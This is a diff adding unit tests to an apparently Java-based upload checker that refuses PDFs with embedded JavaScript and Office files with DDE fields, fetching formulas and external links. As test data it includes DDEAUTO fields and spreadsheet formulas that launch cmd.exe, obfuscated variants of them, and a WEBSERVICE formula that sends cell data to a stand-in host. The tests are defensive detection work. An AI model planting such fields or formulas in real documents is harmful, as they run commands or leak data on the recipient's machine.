@@ -11,6 +11,7 @@ import java.io.IOException;
 import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.util.Arrays;
+import java.util.stream.Collectors;
 import java.util.stream.Stream;
 import javax.imageio.ImageIO;
 import org.junit.jupiter.api.DisplayName;
@@ -117,6 +118,24 @@ class ContentCheckTest {
                         Pdf.with("/OpenAction 5 0 R").add("5 0 obj << /S /URI /URI (x) >> endobj\n"),
                         "打开时"),
                 Arguments.of("打开时执行找不到的动作", Pdf.with("/OpenAction 55 0 R"), "打开时"),
+                Arguments.of(
+                        "根对象直接写在文件尾",
+                        Pdf.with("").add("trailer << /Root << /OpenAction << /S /JavaScript >> >> >>\n"),
+                        "脚本"),
+                Arguments.of(
+                        "藏在多余的右括号后面", Pdf.with("").add("5 0 obj << /Type ] /Action /S /JavaScript >> endobj\n"), "脚本"),
+                Arguments.of(
+                        "对象流的开头读不懂",
+                        Pdf.with("").stream(
+                                "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
+                                Pdf.deflated("+5 0 << /JS (x) >>".getBytes(StandardCharsets.US_ASCII))),
+                        "脚本"),
+                Arguments.of(
+                        "对象流的开头读不懂，里面也没有什么",
+                        Pdf.with("").stream(
+                                "/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode",
+                                Pdf.deflated("+5 0 << /Title (x) >>".getBytes(StandardCharsets.US_ASCII))),
+                        "不能检查"),
                 Arguments.of("加密", Pdf.with("").add("trailer << /Encrypt 5 0 R >>\n"), "加密"),
                 Arguments.of(
                         "不能检查的对象流",
@@ -174,6 +193,30 @@ class ContentCheckTest {
                         .bytes());
     }
 
+    static Stream<Arguments> pdfsThatOnlySpeakOfIt() {
+        return Stream.of(
+                Arguments.of(
+                        "页面的文字",
+                        Pdf.with("").stream(
+                                "", "BT (/JavaScript /Launch /AA) Tj ET".getBytes(StandardCharsets.US_ASCII))),
+                Arguments.of(
+                        "网址",
+                        Pdf.with("").add("5 0 obj << /A << /S /URI /URI (https://x.cn/JavaScript) >> >> endobj\n")),
+                Arguments.of("对象流里的书签", Pdf.with("").packed(5, "<< /Title (PDF /JavaScript /EmbeddedFile) >>")),
+                Arguments.of(
+                        "元数据",
+                        Pdf.with("").stream(
+                                "/Type /Metadata /Subtype /XML",
+                                "<dc:title>/SubmitForm /Encrypt /JS</dc:title>".getBytes(StandardCharsets.US_ASCII))));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("pdfsThatOnlySpeakOfIt")
+    @DisplayName("只是文字里提到脚本的 PDF：收")
+    void pdfThatOnlySpeaksOfIt(String what, Pdf pdf) {
+        accepted(FileFormat.PDF, pdf.bytes());
+    }
+
     @Test
     @DisplayName("没有下载完的 PDF、套了几百万层的 PDF：拒绝，不拖住系统")
     void brokenPdf() {
@@ -220,6 +263,79 @@ class ContentCheckTest {
     @DisplayName("docx 引用的外部内容和改了名的对象：从关系认出")
     void activeRelations(String kind, String target, String mode, String sentence) {
         refused(FileFormat.DOCX, Zipped.docxRelatedTo(kind, target, mode).bytes(), sentence);
+    }
+
+    private static final String WORD =
+            "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
+                    + " xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\">%s</w:document>";
+
+    private static String field(String... parts) {
+        return WORD.formatted("<w:fldChar w:fldCharType=\"begin\"/>"
+                + Stream.of(parts)
+                        .map("<w:instrText>%s</w:instrText>"::formatted)
+                        .collect(Collectors.joining())
+                + "<w:fldChar w:fldCharType=\"separate\"/><w:t>！</w:t><w:fldChar w:fldCharType=\"end\"/>");
+    }
+
+    static Stream<Arguments> ddeFields() {
+        return Stream.of(
+                Arguments.of("word/document.xml", field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ")),
+                Arguments.of("word/document.xml", field("dde", " Excel Sheet1 R1C1")),
+                Arguments.of("word/document.xml", field(" DD", "EAU", "TO cmd")),
+                Arguments.of("word/document.xml", field(" &#x44;DEAUTO cmd")),
+                Arguments.of("word/header1.xml", WORD.formatted("<w:fldSimple w:instr=\" DDEAUTO cmd \"/>")),
+                Arguments.of(
+                        "word/footnotes.xml",
+                        WORD.formatted("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>IF 1=1 </w:instrText>"
+                                + "<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDE x</w:instrText>")),
+                Arguments.of("word/theme.bin", field("DDEAUTO cmd")));
+    }
+
+    @ParameterizedTest(name = "{0} {1}")
+    @MethodSource("ddeFields")
+    @DisplayName("docx 的 DDE 域，拆开的、转义的、在页眉脚注里的、部分改了名的：拒绝并说明怎么办")
+    void ddeFields(String part, String text) {
+        refused(FileFormat.DOCX, Zipped.docx().with(part, text).bytes(), "DDE");
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '!', quoteCharacter = '`', textBlock = """
+            xl/worksheets/sheet1.xml ! <c><f>cmd|'/c calc'&#33;A0</f></c>                        ! DDE
+            xl/worksheets/sheet1.xml ! <c><f>IF(1,"a|b",'cmd'|'/c calc'&#33;A0)</f></c>          ! DDE
+            xl/workbook.xml          ! <definedName name="x">cmd|'/c'&#33;A0</definedName>       ! DDE
+            xl/worksheets/sheet1.xml ! <c><f>_xlfn.WEBSERVICE("http://x/?"&amp;A1)</f></c>      ! WEBSERVICE
+            xl/worksheets/sheet1.xml ! <c><f>LEN( webservice (A1))</f></c>                      ! WEBSERVICE
+            xl/worksheets/sheet2.xml ! <cfRule><formula>_xlfn.IMAGE("http://x")</formula></cfRule>  ! 从外部取数
+            xl/worksheets/sheet2.xml ! <dataValidation><formula1>RTD("p",,"x")</formula1></dataValidation> ! 从外部取数
+            xl/worksheets/_rels/sheet1.xml.rels ! <Relationship Type="http://x/relationships/externalLink" Target="a.xml"/> ! 外部链接
+            xl/worksheets/_rels/sheet1.xml.rels ! <Relationship Type="http://x/relationships/connections" Target="a.xml"/> ! 数据连接
+            """)
+    @DisplayName("xlsx 的 DDE 公式、取数公式、外部链接、改了名的数据连接：拒绝并说明怎么办")
+    void fetchingFormulas(String part, String text, String sentence) {
+        refused(FileFormat.XLSX, Zipped.xlsx().with(part, "<x>" + text + "</x>").bytes(), sentence);
+    }
+
+    @Test
+    @DisplayName("普通的域、公式和数学公式，只是文字里提到 DDE 的：收")
+    void usualFieldsAndFormulas() {
+        accepted(
+                FileFormat.DOCX,
+                Zipped.docx()
+                        .with("word/document.xml", field(" PAGE \\* MERGEFORMAT "))
+                        .with(
+                                "word/header1.xml",
+                                WORD.formatted("<w:t>DDEAUTO 是什么</w:t><w:fldSimple w:instr=\"DATE\"/>"))
+                        .with("word/footer1.xml", WORD.formatted("<m:f><m:num>|x|</m:num></m:f>"))
+                        .with("word/media/image1.jpeg", new byte[] {(byte) 0xff, (byte) 0xd8, (byte) 0xff, 0, 1})
+                        .with("word/vmlDrawing1.vml", "<xml><br></xml>")
+                        .bytes());
+        accepted(
+                FileFormat.XLSX,
+                Zipped.xlsx()
+                        .with(
+                                "xl/worksheets/sheet1.xml",
+                                "<s><c><f>SUM('a|b'!A1:A9)&amp;\"x|WEBSERVICE(\"</f></c><c><t>WEBSERVICE(1)|</t></c></s>")
+                        .bytes());
     }
 
     @Test
